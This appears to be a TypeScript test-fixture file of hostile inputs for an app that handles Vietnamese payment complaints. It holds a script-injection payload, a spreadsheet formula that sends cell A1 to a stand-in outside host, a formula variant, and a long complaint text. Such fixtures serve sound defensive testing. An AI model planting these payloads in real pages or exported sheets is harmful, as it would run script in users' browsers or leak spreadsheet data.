/** What a browser would run were it ever drawn as anything but letters: it leaves its mark on the window. */
export const SCRIPT = '<img src=x onerror="window.__ran=1"><script>window.__ran=1</script>'
/** What a sheet would work out where a file does not keep it from that. */
export const FORMULA = '=HYPERLINK("https://thua.example/?x="&A1;"Nhận thưởng")'
/** The same in a line that takes no symbols. */
export const LINE_FORMULA = '@SUM(1+1)*cmd'

/** As people write who are angry: long, and without a space where one belongs. */
export const LONG =
  'Tôi chuyển lúc hai giờ sáng từ ngân hàng Mây Trắng, tài khoản đã trừ tiền mà ví vẫn chưa có, gọi tổng đài ba lần thì mỗi lần một câu trả lời khác nhau, mong anh chị xem giúp trước khi trận tối nay bắt đầu vì tôi cần vào kèo. ' +
  'https://anh.example/bien-lai-chuyen-khoan-ngan-hang-may-trang-20260131-0203-000000000000000000000000000000000000.jpg'

export const HOSTILE = `${SCRIPT} ${FORMULA} ${LONG}`
/** A reason of the staff, which is shorter. */
export const HOSTILE_REASON = `${SCRIPT} ${FORMULA} đã gọi chủ máy hai lần, chủ máy nói sẽ gửi lại giấy tờ trong ngày`
